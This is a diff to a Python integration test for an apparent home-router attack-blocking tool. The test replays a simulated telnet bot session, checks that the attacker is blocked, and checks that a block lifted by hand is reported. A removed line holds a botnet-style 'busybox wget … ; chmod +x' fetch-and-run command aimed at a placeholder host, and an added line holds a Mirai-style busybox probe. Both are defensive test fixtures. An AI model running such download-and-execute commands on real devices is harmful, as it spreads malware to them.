@@ -71,7 +71,7 @@ class Home:
         """Stream a whole connection in which a bot drives a shell over telnet."""
         port = 30000 + int(time.monotonic()) % 30000
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as router:
-            for frame in conversation(port, b"/bin/busybox wget http://x/y; chmod +x y\r\n"):
+            for frame in conversation(port, b"/bin/busybox MIRAI\r\n"):
                 router.sendto(encode(frame), ("127.0.0.1", self.guest.host_port(TZSP_PORT)))
 
 
@@ -150,9 +150,9 @@ def test_the_story_of_a_block(home: Home) -> None:
     until(attacked, "nobody would be blocked")
     assert "this is who would be" in home.owner.read("router") and home.rows() == []
 
+    home.machine.connection(f"{ATTACKER}:4444", f"{VICTIM}:23")
     home.guest.run(f"printf '[block]\\nmode = \"on\"\\n' >{DATA}/glovebox.toml")
     home.guest.run("systemctl restart glovebox-blocking", 120)
-    home.machine.connection(f"{ATTACKER}:4444", f"{VICTIM}:23")
     until(lambda: home.rows() == [ATTACKER], "no row on the router")
     until(lambda: home.in_force() == [["home"]], "the row is not proved")
     assert home.machine.rows("/ip/firewall/connection") == []
@@ -162,10 +162,14 @@ def test_the_story_of_a_block(home: Home) -> None:
 
     home.wish(kind="lift", what=f"{ATTACKER}/32")
     until(lambda: home.rows() == [], "it is not lifted")
-    home.attack()
-    home.guest.run("glovebox selftest", 150)
-    until(lambda: home.report().get("spared"), "nothing is said of what was lifted")
+
+    def told() -> object:
+        home.attack()
+        return "was lifted by hand" in json.dumps(home.report().get("spared"))
+
+    until(told, "nothing is said of what was lifted")
     assert home.rows() == []
+    assert "seen first" in home.owner.read("router/changes")
     assert terminal.paste(home.machine, undo) == []
     assert terminal.export(home.machine) == before
 
